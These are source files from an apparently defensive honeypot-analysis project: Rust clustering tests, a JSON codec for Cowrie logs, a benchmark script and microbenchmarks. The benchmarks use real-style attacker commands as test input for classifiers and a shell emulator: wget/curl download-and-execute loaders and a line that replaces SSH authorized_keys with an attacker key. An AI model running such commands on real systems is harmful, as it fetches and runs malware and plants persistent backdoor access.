                let cl = k_medoids(m, weights, k, seed);
                (k, wcss(m, weights, &cl), silhouette(m, weights, &cl))
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sig(s: &str) -> Vec<String> {
        s.split_whitespace().map(str::to_string).collect()
    }

    /// Three well-separated behaviour families.
    fn corpus() -> (Vec<Vec<String>>, Vec<u64>) {
        let sigs = vec![
            sig("echo ok"),
            sig("echo ok now"),
            sig("uname -a"),
            sig("uname -a ; nproc"),
            sig("cd /tmp wget <URL> chmod <NAME> sh <NAME> rm <NAME>"),
            sig("cd /tmp wget <URL> chmod <NAME> sh <NAME>"),
            sig("cd /tmp curl <URL> chmod <NAME> sh <NAME> rm <NAME>"),
        ];
        let weights = vec![100, 5, 40, 4, 20, 10, 8];
        (sigs, weights)
    }

    #[test]
    fn matrix_is_symmetric_with_zero_diagonal() {
        let (sigs, _) = corpus();
        let m = DistanceMatrix::build(&sigs);
        for i in 0..m.len() {
            assert_eq!(m.get(i, i), 0.0);
            for j in 0..m.len() {
                assert_eq!(m.get(i, j), m.get(j, i));
                assert!((0.0..=1.0).contains(&m.get(i, j)));
            }
        }
    }

    #[test]
    fn packed_matches_dense() {
        let (sigs, _) = corpus();
        let packed = DistanceMatrix::build(&sigs);
        let dense = naive::DenseMatrix::build(&sigs);
        for i in 0..sigs.len() {
            for j in 0..sigs.len() {
                assert_eq!(packed.get(i, j), dense.get(i, j), "({i},{j})");
            }
        }
        assert_eq!(packed.as_packed().len(), sigs.len() * (sigs.len() + 1) / 2);
    }

    #[test]
    fn parallel_build_matches_serial() {
        let (sigs, _) = corpus();
        let serial = DistanceMatrix::build_with_threads(&sigs, 1);
        for threads in [2, 3, 8] {
            let par = DistanceMatrix::build_with_threads(&sigs, threads);
            assert_eq!(par.as_packed(), serial.as_packed(), "threads={threads}");
        }
    }

    #[test]
    fn banded_build_is_exact_within_cap() {
        let (sigs, _) = corpus();
        let exact = DistanceMatrix::build(&sigs);
        let banded = DistanceMatrix::build_banded(&sigs, 1, 0.5);
        for i in 0..sigs.len() {
            for j in 0..sigs.len() {
                let e = exact.get(i, j);
                let b = banded.get(i, j);
                if e <= 0.5 {
                    assert_eq!(b, e, "({i},{j})");
                } else {
                    assert_eq!(b, 1.0, "({i},{j})");
                }
            }
        }
    }

    #[test]
    fn k3_separates_families() {
        let (sigs, w) = corpus();
        let m = DistanceMatrix::build(&sigs);
        let cl = k_medoids(&m, &w, 3, 7);
        assert_eq!(cl.k(), 3);
        // Echo pair together, uname pair together, loaders together.
        assert_eq!(cl.assignment[0], cl.assignment[1]);
        assert_eq!(cl.assignment[2], cl.assignment[3]);
        assert_eq!(cl.assignment[4], cl.assignment[5]);
        assert_eq!(cl.assignment[4], cl.assignment[6]);
        assert_ne!(cl.assignment[0], cl.assignment[2]);
        assert_ne!(cl.assignment[0], cl.assignment[4]);
    }

    #[test]
    fn optimized_matches_naive_on_corpus() {
        let (sigs, w) = corpus();
        let m = DistanceMatrix::build(&sigs);
        for k in 1..=sigs.len() {
            for seed in [0, 1, 7, 42] {
                let fast = k_medoids(&m, &w, k, seed);
                let slow = naive::k_medoids(&m, &w, k, seed);
                assert_eq!(fast.assignment, slow.assignment, "k={k} seed={seed}");
                assert_eq!(fast.medoids, slow.medoids, "k={k} seed={seed}");
            }
        }
    }

    #[test]
    fn wcss_decreases_with_k() {
        let (sigs, w) = corpus();
        let m = DistanceMatrix::build(&sigs);
        let sweep = sweep_k(&m, &w, &[1, 2, 3, 4], 7);
        for pair in sweep.windows(2) {
            assert!(
                pair[1].1 <= pair[0].1 + 1e-9,
                "wcss must not increase: {:?}",
                sweep
            );
        }
        // Perfect k (= n) has zero WCSS.
        let cl = k_medoids(&m, &w, sigs.len(), 7);
        assert!(wcss(&m, &w, &cl) < 1e-12);
    }

    #[test]
    fn silhouette_prefers_the_natural_k() {
        let (sigs, w) = corpus();
        let m = DistanceMatrix::build(&sigs);
        let s3 = silhouette(&m, &w, &k_medoids(&m, &w, 3, 7));
        let s2 = silhouette(&m, &w, &k_medoids(&m, &w, 2, 7));
        assert!(s3 > 0.5, "natural clustering should score high: {s3}");
        assert!(s3 >= s2, "k=3 {s3} should beat k=2 {s2}");
    }

    #[test]
    fn silhouette_survives_zero_weights() {
        // Regression: `weights[i] - 1` used to wrap to ~1.8e19 for a
        // zero-weight point, silently crushing that point's `a` term.
        let (sigs, mut w) = corpus();
        w[1] = 0;
        w[3] = 0;
        let m = DistanceMatrix::build(&sigs);
        let cl = k_medoids(&m, &w, 3, 7);
        let s = silhouette(&m, &w, &cl);
        assert!((-1.0..=1.0).contains(&s), "score out of range: {s}");
        assert_eq!(s, naive::silhouette(&m, &w, &cl));
    }

    #[test]
    fn elbow_finds_the_knee() {
        // Synthetic steep-then-flat curve with knee at k=3.
        let pts = vec![(1, 100.0), (2, 40.0), (3, 8.0), (4, 6.0), (5, 5.0)];
        assert_eq!(select_k_elbow(&pts), 3);
        assert_eq!(select_k_elbow(&[(1, 5.0)]), 1);
    }

    #[test]
    #[cfg(debug_assertions)]
    #[should_panic(expected = "sorted by k ascending")]
    fn elbow_rejects_unsorted_input_in_debug() {
        select_k_elbow(&[(3, 8.0), (1, 100.0), (2, 40.0)]);
    }

    #[test]
    fn clustering_is_deterministic() {
        let (sigs, w) = corpus();
        let m = DistanceMatrix::build(&sigs);
        let a = k_medoids(&m, &w, 3, 42);
        let b = k_medoids(&m, &w, 3, 42);
        assert_eq!(a.assignment, b.assignment);
        assert_eq!(a.medoids, b.medoids);
    }

    #[test]
    fn order_by_tokens_sorts_short_first() {
        let (sigs, w) = corpus();
        let m = DistanceMatrix::build(&sigs);
        let cl = k_medoids(&m, &w, 3, 7);
        let order = order_by_avg_tokens(&sigs, &w, &cl);
        // First ordered cluster is the echo family (2-3 tokens).
        let first = order[0];
        assert!(cl.members(first).any(|i| i == 0));
    }

    #[test]
    fn k_larger_than_n_is_clamped() {
        let sigs = vec![sig("a"), sig("b")];
        let w = vec![1, 1];
        let m = DistanceMatrix::build(&sigs);
        let cl = k_medoids(&m, &w, 10, 1);
        assert_eq!(cl.k(), 2);
    }

    #[test]
    fn empty_input() {
        let m = DistanceMatrix::build(&[]);
        let cl = k_medoids(&m, &[], 3, 1);
        assert_eq!(cl.k(), 0);
        assert_eq!(wcss(&m, &[], &cl), 0.0);
        assert_eq!(silhouette(&m, &[], &cl), 0.0);
    }
}
