//! A minimal JSON codec (RFC 8259).
//!
//! Cowrie emits its event log as JSON lines; interoperating with that
//! format — exporting synthetic sessions for existing Cowrie tooling and
//! importing *real* Cowrie logs into the analysis pipeline — needs a JSON
//! parser and serializer. `serde_json` is outside the allowed dependency
//! set, and the subset needed here is small, so the codec lives in-repo.
//!
//! Objects preserve insertion order (serialization is deterministic), and
//! numbers are stored as `f64` — Cowrie's fields never exceed 2^53.

/// The honeylab-api schema version emitted by every programmatic JSON
/// surface (HTTP endpoints, `ServeReport`, `analyze --format json`).
/// Consumers key on the `honeylab_api` envelope field; the version only
/// bumps on a breaking change to a committed `docs/api_v1` golden.
pub const API_VERSION: &str = "v1";

/// Wraps a document body in the versioned honeylab-api envelope:
/// `{"honeylab_api":"v1","kind":<kind>,"data":<data>}`. Every
/// programmatic consumer sees this exact shape regardless of which
/// subsystem produced the document.
pub fn api_envelope(kind: &str, data: Json) -> Json {
    Json::obj([
        ("honeylab_api", Json::str(API_VERSION)),
        ("kind", Json::str(kind)),
        ("data", data),
    ])
}

/// A JSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum Json {
    /// `null`
    Null,
    /// `true` / `false`
    Bool(bool),
    /// Any number.
    Num(f64),
    /// A string.
    Str(String),
    /// An array.
    Arr(Vec<Json>),
    /// An object with insertion-ordered keys.
    Obj(Vec<(String, Json)>),
}

/// Parse failure with byte position.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JsonError {
    /// Byte offset in the input.
    pub position: usize,
    /// What went wrong.
    pub message: String,
}

impl std::fmt::Display for JsonError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "JSON error at byte {}: {}", self.position, self.message)
    }
}

impl std::error::Error for JsonError {}

impl Json {
    /// Builds a string value.
    pub fn str(s: impl Into<String>) -> Json {
        Json::Str(s.into())
    }

    /// Builds a number from an unsigned counter (the dominant case in
    /// the stats API; `u64` counters in this workspace never exceed
    /// 2^53 in practice, matching the codec's `f64` storage).
    pub fn u64(n: u64) -> Json {
        Json::Num(n as f64)
    }

    /// Builds a number from a signed value (Unix timestamps).
    pub fn i64(n: i64) -> Json {
        Json::Num(n as f64)
    }

    /// Builds an array from an iterator of values.
    pub fn arr(items: impl IntoIterator<Item = Json>) -> Json {
        Json::Arr(items.into_iter().collect())
    }

    /// Builds an object from pairs.
    pub fn obj<const N: usize>(pairs: [(&str, Json); N]) -> Json {
        Json::Obj(pairs.into_iter().map(|(k, v)| (k.to_string(), v)).collect())
    }

    /// Object field lookup.
    pub fn get(&self, key: &str) -> Option<&Json> {
        match self {
            Json::Obj(pairs) => pairs.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// String accessor.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Json::Str(s) => Some(s),
            _ => None,
        }
    }

    /// Number accessor.
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Json::Num(n) => Some(*n),
            _ => None,
        }
    }

    /// Integer accessor (floats with fraction are rejected).
    pub fn as_i64(&self) -> Option<i64> {
        match self {
            Json::Num(n) if n.fract() == 0.0 && n.abs() < 9e15 => Some(*n as i64),
            _ => None,
        }
    }

    /// Bool accessor.
    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Json::Bool(b) => Some(*b),
            _ => None,
        }
    }

    /// Array accessor.
    pub fn as_array(&self) -> Option<&[Json]> {
        match self {
            Json::Arr(v) => Some(v),
            _ => None,
        }
    }

    /// Parses one JSON document (trailing whitespace allowed, trailing
    /// garbage rejected).
    pub fn parse(input: &str) -> Result<Json, JsonError> {
        let mut p = Parser {
            bytes: input.as_bytes(),
            pos: 0,
        };
        p.skip_ws();
        let v = p.value()?;
        p.skip_ws();
        if p.pos != p.bytes.len() {
            return Err(p.err("trailing garbage"));
        }
        Ok(v)
    }

    /// Serialises to a compact JSON string.
    pub fn render(&self) -> String {
        let mut out = String::new();
        self.write(&mut out);
        out
    }

    /// Serialises to an indented (2-space) JSON string with a trailing
    /// newline — the stable form committed as `docs/api_v1` goldens and
    /// printed by `analyze --format json`.
    pub fn pretty(&self) -> String {
        let mut out = String::new();
        self.write_pretty(&mut out, 0);
        out.push('\n');
        out
    }

    fn write_pretty(&self, out: &mut String, depth: usize) {
        match self {
            Json::Arr(items) if !items.is_empty() => {
                out.push('[');
                for (i, item) in items.iter().enumerate() {
                    out.push_str(if i > 0 { ",\n" } else { "\n" });
                    indent(out, depth + 1);
                    item.write_pretty(out, depth + 1);
                }
                out.push('\n');
                indent(out, depth);
                out.push(']');
            }
            Json::Obj(pairs) if !pairs.is_empty() => {
                out.push('{');
                for (i, (k, v)) in pairs.iter().enumerate() {
                    out.push_str(if i > 0 { ",\n" } else { "\n" });
                    indent(out, depth + 1);
                    write_escaped(k, out);
                    out.push_str(": ");
                    v.write_pretty(out, depth + 1);
                }
                out.push('\n');
                indent(out, depth);
                out.push('}');
            }
            other => other.write(out),
        }
    }

    fn write(&self, out: &mut String) {
        match self {
            Json::Null => out.push_str("null"),
            Json::Bool(true) => out.push_str("true"),
            Json::Bool(false) => out.push_str("false"),
            Json::Num(n) => {
                if n.fract() == 0.0 && n.abs() < 9e15 {
                    out.push_str(&format!("{}", *n as i64));
                } else {
                    out.push_str(&format!("{n}"));
                }
            }
            Json::Str(s) => write_escaped(s, out),
            Json::Arr(items) => {
                out.push('[');
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    item.write(out);
                }
                out.push(']');
            }
            Json::Obj(pairs) => {
                out.push('{');
                for (i, (k, v)) in pairs.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    write_escaped(k, out);
                    out.push(':');
                    v.write(out);
                }
                out.push('}');
            }
        }
    }
}

impl std::fmt::Display for Json {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.render())
    }
}

fn indent(out: &mut String, depth: usize) {
    for _ in 0..depth {
        out.push_str("  ");
    }
}

fn write_escaped(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\u{08}' => out.push_str("\\b"),
            '\u{0c}' => out.push_str("\\f"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn err(&self, msg: &str) -> JsonError {
        JsonError {
            position: self.pos,
            message: msg.to_string(),
        }
    }

    fn skip_ws(&mut self) {
        while matches!(self.bytes.get(self.pos), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.pos += 1;
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, b: u8) -> Result<(), JsonError> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(self.err(&format!("expected '{}'", b as char)))
        }
    }

    fn value(&mut self) -> Result<Json, JsonError> {
        match self.peek() {
            None => Err(self.err("unexpected end of input")),
            Some(b'n') => self.keyword("null", Json::Null),
            Some(b't') => self.keyword("true", Json::Bool(true)),
            Some(b'f') => self.keyword("false", Json::Bool(false)),
            Some(b'"') => Ok(Json::Str(self.string()?)),
            Some(b'[') => self.array(),
            Some(b'{') => self.object(),
            Some(b'-' | b'0'..=b'9') => self.number(),
            Some(b) => Err(self.err(&format!("unexpected byte 0x{b:02x}"))),
        }
    }

    fn keyword(&mut self, word: &str, value: Json) -> Result<Json, JsonError> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(self.err(&format!("expected '{word}'")))
        }
    }

    fn array(&mut self) -> Result<Json, JsonError> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Json::Arr(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Json::Arr(items));
                }
                _ => return Err(self.err("expected ',' or ']'")),
            }
        }
    }

    fn object(&mut self) -> Result<Json, JsonError> {
        self.expect(b'{')?;
        let mut pairs = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Json::Obj(pairs));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.value()?;
            pairs.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Json::Obj(pairs));
                }
                _ => return Err(self.err("expected ',' or '}'")),
            }
        }
    }

    fn string(&mut self) -> Result<String, JsonError> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            match self.peek() {
                None => return Err(self.err("unterminated string")),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'b') => out.push('\u{08}'),
                        Some(b'f') => out.push('\u{0c}'),
                        Some(b'u') => {
                            self.pos += 1;
                            let hi = self.hex4()?;
                            let c = if (0xD800..0xDC00).contains(&hi) {
                                // Surrogate pair.
                                if self.peek() == Some(b'\\') {
                                    self.pos += 1;
                                    self.expect(b'u')?;
                                    let lo = self.hex4()?;
                                    if !(0xDC00..0xE000).contains(&lo) {
                                        return Err(self.err("invalid low surrogate"));
                                    }
                                    let cp = 0x10000 + ((hi - 0xD800) << 10) + (lo - 0xDC00);
                                    char::from_u32(cp)
                                        .ok_or_else(|| self.err("invalid code point"))?
                                } else {
                                    return Err(self.err("lone high surrogate"));
                                }
                            } else if (0xDC00..0xE000).contains(&hi) {
                                return Err(self.err("lone low surrogate"));
                            } else {
                                char::from_u32(hi).ok_or_else(|| self.err("invalid code point"))?
                            };
                            out.push(c);
                            continue; // hex4 already advanced
                        }
                        _ => return Err(self.err("bad escape")),
                    }
                    self.pos += 1;
                }
                Some(b) if b < 0x20 => return Err(self.err("raw control char in string")),
                Some(_) => {
                    // Consume one UTF-8 code point.
                    let rest = &self.bytes[self.pos..];
                    let s = std::str::from_utf8(rest).map_err(|_| self.err("invalid UTF-8"))?;
                    let c = s.chars().next().expect("non-empty");
                    out.push(c);
                    self.pos += c.len_utf8();
                }
            }
        }
    }

    fn hex4(&mut self) -> Result<u32, JsonError> {
        let mut v = 0u32;
        for _ in 0..4 {
            let d = self
                .peek()
                .and_then(|b| (b as char).to_digit(16))
                .ok_or_else(|| self.err("bad \\u escape"))?;
            v = v * 16 + d;
            self.pos += 1;
        }
        Ok(v)
    }

    fn number(&mut self) -> Result<Json, JsonError> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b'0'..=b'9')) {
            self.pos += 1;
        }
        if self.peek() == Some(b'.') {
            self.pos += 1;
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        if matches!(self.peek(), Some(b'e' | b'E')) {
            self.pos += 1;
            if matches!(self.peek(), Some(b'+' | b'-')) {
                self.pos += 1;
            }
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos])
            .map_err(|_| self.err("invalid number"))?;
        text.parse::<f64>().map(Json::Num).map_err(|_| JsonError {
            position: start,
            message: "invalid number".into(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_scalars() {
        assert_eq!(Json::parse("null").unwrap(), Json::Null);
        assert_eq!(Json::parse("true").unwrap(), Json::Bool(true));
        assert_eq!(Json::parse("false").unwrap(), Json::Bool(false));
        assert_eq!(Json::parse("42").unwrap(), Json::Num(42.0));
        assert_eq!(Json::parse("-3.5e2").unwrap(), Json::Num(-350.0));
        assert_eq!(Json::parse(r#""hi""#).unwrap(), Json::str("hi"));
    }

    #[test]
    fn parses_nested_structures() {
        let v = Json::parse(r#"{"a": [1, {"b": null}], "c": "x"}"#).unwrap();
        assert_eq!(v.get("c").and_then(Json::as_str), Some("x"));
        let arr = v.get("a").and_then(Json::as_array).unwrap();
        assert_eq!(arr[0].as_i64(), Some(1));
        assert_eq!(arr[1].get("b"), Some(&Json::Null));
    }

    #[test]
    fn string_escapes_roundtrip() {
        let original = "line1\nline2\t\"quoted\" \\ slash \u{1F980} \u{7}";
        let rendered = Json::str(original).render();
        assert_eq!(Json::parse(&rendered).unwrap(), Json::str(original));
    }

    #[test]
    fn surrogate_pairs_decode() {
        let v = Json::parse(r#""🦀""#).unwrap();
        assert_eq!(v.as_str(), Some("\u{1F980}"));
        assert!(Json::parse(r#""\ud83e""#).is_err());
        assert!(Json::parse(r#""\udd80""#).is_err());
    }

    #[test]
    fn rejects_malformed_documents() {
        for bad in [
            "",
            "{",
            "[1,",
            r#"{"a"}"#,
            "nul",
            "01x",
            r#""unterminated"#,
            "[1]]",
            "{} {}",
            "\"\u{01}\"",
        ] {
            assert!(Json::parse(bad).is_err(), "should reject {bad:?}");
        }
    }

    #[test]
    fn object_key_order_is_preserved() {
        let obj = Json::obj([("z", Json::Num(1.0)), ("a", Json::Num(2.0))]);
        assert_eq!(obj.render(), r#"{"z":1,"a":2}"#);
    }

    #[test]
    fn integers_render_without_fraction() {
        assert_eq!(Json::Num(1648000000.0).render(), "1648000000");
        assert_eq!(Json::Num(1.5).render(), "1.5");
    }

    #[test]
    fn cowrie_like_line_roundtrips() {
        let line = r#"{"eventid":"cowrie.login.success","username":"root","password":"admin","timestamp":"2022-03-01T12:00:00Z","src_ip":"10.0.0.1","session":"a1b2c3d4"}"#;
        let v = Json::parse(line).unwrap();
        assert_eq!(
            v.get("eventid").and_then(Json::as_str),
            Some("cowrie.login.success")
        );
        assert_eq!(Json::parse(&v.render()).unwrap(), v);
    }

    #[test]
    fn pretty_rendering_roundtrips_and_is_stable() {
        let v = Json::obj([
            ("empty_obj", Json::Obj(vec![])),
            ("empty_arr", Json::Arr(vec![])),
            (
                "nested",
                Json::obj([("xs", Json::arr([Json::u64(1), Json::u64(2)]))]),
            ),
        ]);
        let pretty = v.pretty();
        assert!(pretty.ends_with('\n'));
        assert_eq!(Json::parse(&pretty).unwrap(), v);
        assert_eq!(
            pretty,
            "{\n  \"empty_obj\": {},\n  \"empty_arr\": [],\n  \"nested\": {\n    \"xs\": [\n      1,\n      2\n    ]\n  }\n}\n"
        );
    }

    #[test]
    fn api_envelope_carries_version_kind_and_data() {
        let doc = api_envelope("stats", Json::obj([("sessions", Json::u64(7))]));
        assert_eq!(
            doc.get("honeylab_api").and_then(Json::as_str),
            Some(API_VERSION)
        );
        assert_eq!(doc.get("kind").and_then(Json::as_str), Some("stats"));
        assert_eq!(
            doc.get("data")
                .and_then(|d| d.get("sessions"))
                .and_then(Json::as_i64),
            Some(7)
        );
    }

    #[test]
    fn whitespace_tolerant() {
        let v = Json::parse(" {\n\t\"a\" :\t[ 1 , 2 ]\r\n} ").unwrap();
        assert_eq!(
            v.get("a").and_then(Json::as_array).map(<[Json]>::len),
            Some(2)
        );
    }
}
