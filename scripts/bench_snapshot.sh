#!/usr/bin/env bash
# Refresh the checked-in benchmark snapshots.
# Run from the repository root: ./scripts/bench_snapshot.sh
#
# Two snapshots, both plain timing loops with their own JSON writers
# (the vendored criterion has no machine-readable output):
#   BENCH_classify.json — prefiltered-vs-naive Table 1 classification
#     throughput (crates/bench/benches/classify.rs).
#   BENCH_cluster.json  — interned/triangular-vs-naive §6 clustering
#     end-to-end (matrix build + k-sweep; crates/bench/benches/cluster.rs).
#   BENCH_serve.json    — reactor-vs-polled serve throughput over real
#     loopback sockets under the barrage load harness
#     (crates/bench/benches/serve.rs).
set -euo pipefail
cd "$(dirname "$0")/.."

echo "== bench snapshot: classify (prefiltered vs naive) =="
cargo bench -p honeylab-bench --bench classify -- --json "$PWD/BENCH_classify.json"

echo "== bench snapshot: wrote BENCH_classify.json =="
cat BENCH_classify.json

echo "== bench snapshot: cluster (interned vs naive) =="
cargo bench -p honeylab-bench --bench cluster -- --json "$PWD/BENCH_cluster.json"

echo "== bench snapshot: wrote BENCH_cluster.json =="
cat BENCH_cluster.json

echo "== bench snapshot: serve (reactor vs polled, barrage load) =="
cargo bench -p honeylab-bench --bench serve -- --json "$PWD/BENCH_serve.json"

echo "== bench snapshot: wrote BENCH_serve.json =="
cat BENCH_serve.json
