//! Microbenchmarks for the substrate crates: hash/codec primitives, the
//! regex engine on Table 1 workloads, token-DLD, the shell emulator and a
//! full SSH wire dialogue.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use honeylab_core::classify::Classifier;
use honeylab_core::{dld, tokens};
use std::hint::black_box;

fn bench_sha256(c: &mut Criterion) {
    let mut g = c.benchmark_group("sha256");
    for size in [64usize, 1024, 65_536] {
        let data = vec![0xabu8; size];
        g.throughput(Throughput::Bytes(size as u64));
        g.bench_function(format!("digest_{size}B"), |b| {
            b.iter(|| black_box(hutil::Sha256::digest(&data)))
        });
    }
    g.finish();
}

fn bench_base64(c: &mut Criterion) {
    let script = botnet::mdrfckr_b64_scripts()[0].clone();
    let encoded = hutil::base64::encode(script.as_bytes());
    c.bench_function("base64_roundtrip_payload", |b| {
        b.iter(|| {
            let e = hutil::base64::encode(script.as_bytes());
            black_box(hutil::base64::decode(&e).unwrap())
        })
    });
    c.bench_function("base64_decode_payload", |b| {
        b.iter(|| black_box(hutil::base64::decode(&encoded).unwrap()))
    });
}

fn bench_regex_engine(c: &mut Criterion) {
    let cl = Classifier::table1();
    let typical = "cd /tmp || cd /var/run; tftp; wget http://198.51.100.4/mirai-3.sh; chmod 777 mirai-3.sh; sh mirai-3.sh; /bin/busybox XQKPD";
    let curl_line = "curl https://203.0.113.7/ -s -X GET --max-redirs 5 --cookie 'k=v' --raw";
    let huge = vec![curl_line; 100].join("\n");
    c.bench_function("classify_typical_loader", |b| {
        b.iter(|| black_box(cl.classify(typical)))
    });
    c.bench_function("classify_100_command_session", |b| {
        b.iter(|| black_box(cl.classify(&huge)))
    });
    let conj = sregex::Regex::new(r"(?=.*curl)(?=.*echo)(?=.*ftp)(?=.*wget)").unwrap();
    c.bench_function("lookahead_conjunction_miss_15kb", |b| {
        b.iter(|| black_box(conj.is_match(&huge)))
    });
    let lit = sregex::Regex::new("mdrfckr").unwrap();
    c.bench_function("literal_miss_15kb", |b| {
        b.iter(|| black_box(lit.is_match(&huge)))
    });
}

fn bench_dld(c: &mut Criterion) {
    let a = tokens::signature(
        "cd /tmp; wget http://198.51.100.2/mirai-17.sh; chmod 777 mirai-17.sh; sh mirai-17.sh; rm -rf mirai-17.sh",
    );
    let b2 = tokens::signature(
        "mkdir /var/run/.x; cd /var/run/.x; curl -O http://203.0.113.4/gafgyt-9.sh; sh gafgyt-9.sh",
    );
    c.bench_function("token_dld_typical_pair", |b| {
        b.iter(|| black_box(dld::normalized_dld(&a, &b2)))
    });
    c.bench_function("tokenize_and_sign", |b| {
        b.iter(|| {
            black_box(tokens::signature(
                "cd /tmp; wget http://198.51.100.2/mirai-17.sh; sh mirai-17.sh",
            ))
        })
    });
}

fn bench_shell(c: &mut Criterion) {
    let store = |uri: &str| (uri == "http://203.0.113.5/x.sh").then(|| b"#!/bin/sh\nX\n".to_vec());
    c.bench_function("shell_loader_session", |b| {
        b.iter(|| {
            let mut sh = honeypot::Shell::new(&store);
            sh.exec_line(
                "cd /tmp; wget http://203.0.113.5/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh",
            );
            black_box(sh.file_events().len())
        })
    });
    c.bench_function("shell_mdrfckr_session", |b| {
        let line = format!(
            r#"cd ~; chattr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "{}">>.ssh/authorized_keys && chmod -R go= ~/.ssh"#,
            botnet::MDRFCKR_KEY_LINE
        );
        b.iter(|| {
            let mut sh = honeypot::Shell::new(&honeypot::shell::NullStore);
            sh.exec_line(&line);
            black_box(sh.file_events().len())
        })
    });
}

fn bench_wire_dialogue(c: &mut Criterion) {
    use honeypot::wire::{run_wire_session, WireSessionMeta};
    let store = |uri: &str| (uri == "http://203.0.113.5/x.sh").then(|| b"#!/bin/sh\nX\n".to_vec());
    let meta = WireSessionMeta {
        honeypot_id: 1,
        honeypot_ip: netsim::Ipv4Addr(0x0a000001),
        client_ip: netsim::Ipv4Addr(0x0a000002),
        client_port: 40000,
        start: hutil::Date::new(2022, 5, 1).at(0, 0, 0),
    };
    c.bench_function("ssh_wire_full_dialogue", |b| {
        b.iter(|| {
            let script = sshwire::ClientScript::new(
                "root",
                &["root", "admin"],
                &["uname -a", "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh"],
            );
            black_box(
                run_wire_session(&meta, script, honeypot::AuthPolicy::default(), &store)
                    .unwrap()
                    .1,
            )
        })
    });
}

fn bench_session_sim(c: &mut Criterion) {
    use honeypot::{SessionInput, SessionSim};
    let store = honeypot::shell::NullStore;
    let sim = SessionSim::new(
        honeypot::AuthPolicy::default(),
        &store,
        netsim::latency::LatencyModel::new(1),
    );
    c.bench_function("bulk_session_scout", |b| {
        b.iter(|| {
            black_box(sim.run(SessionInput {
                honeypot_id: 0,
                honeypot_ip: netsim::Ipv4Addr(1),
                client_ip: netsim::Ipv4Addr(2),
                client_port: 4000,
                protocol: honeypot::Protocol::Ssh,
                start: hutil::Date::new(2022, 5, 1).at(0, 0, 0),
                client_version: Some("SSH-2.0-Go".into()),
                logins: vec![("root".into(), "root".into())],
                commands: vec![],
                idle_out: false,
            }))
        })
    });
}

fn bench_outage_schedule(c: &mut Criterion) {
    use honeypot::{OutageConfig, OutageSchedule};
    let sched = OutageSchedule::seeded(
        &OutageConfig::degraded(),
        200,
        hutil::Date::new(2021, 12, 1),
        hutil::Date::new(2024, 8, 31),
        7,
    );
    // The per-session availability probe the driver issues on its hot path.
    let t = hutil::Date::new(2023, 6, 15).at(14, 30, 0);
    c.bench_function("outage_is_up", |b| {
        b.iter(|| {
            let mut up = 0u32;
            for s in 0..200u16 {
                up += u32::from(sched.is_up(black_box(s), t));
            }
            black_box(up)
        })
    });
    c.bench_function("outage_down_sensor_secs_day", |b| {
        b.iter(|| black_box(sched.down_sensor_secs(hutil::Date::new(2023, 10, 8))))
    });
}

fn bench_cowrie_lossy_import(c: &mut Criterion) {
    use honeypot::{from_cowrie_log_lossy, to_cowrie_log, SessionInput, SessionSim};
    let store = honeypot::shell::NullStore;
    let sim = SessionSim::new(
        honeypot::AuthPolicy::default(),
        &store,
        netsim::latency::LatencyModel::new(1),
    );
    let sessions: Vec<_> = (0..200u64)
        .map(|i| {
            sim.run(SessionInput {
                honeypot_id: (i % 20) as u16,
                honeypot_ip: netsim::Ipv4Addr(1),
                client_ip: netsim::Ipv4Addr(0x0a00_0000 + i as u32),
